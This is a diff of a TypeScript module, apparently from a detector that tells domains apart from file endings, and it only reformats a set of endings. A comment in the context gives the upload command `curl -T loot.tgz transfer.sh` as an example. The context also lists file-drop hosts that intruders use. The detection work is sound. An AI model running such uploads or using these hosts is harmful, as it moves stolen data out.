@@ -6,7 +6,9 @@
  * Top-level domains that are far more often the ending of a file or of a unit: `README.md`, `main.rs`, `foo.sh`, `multi-user.target`. Names under
  * them count in URLs, in e-mails and where somebody defanged them. Countries that are also languages (`.pl`, `.cc`, `.ml`) stay domains.
  */
-export const fileEndings: ReadonlySet<string> = new Set('bz cab do doc java link map md mk mm mov new pid properties ps pub py rs sh so target vi zip'.split(' '))
+export const fileEndings: ReadonlySet<string> = new Set(
+  'bz cab do doc java link map md mk mm mov new pid properties ps pub py rs sh so target vi zip'.split(' '),
+)
 
 /** Well-known hosts under such endings that intruders do use: `curl -T loot.tgz transfer.sh` must not be lost. */
 export const knownHosts: ReadonlySet<string> = new Set(['transfer.sh', 'temp.sh', 'keep.sh', 'bit.do', 'notion.so', 'oshi.at', 'paste.rs'])
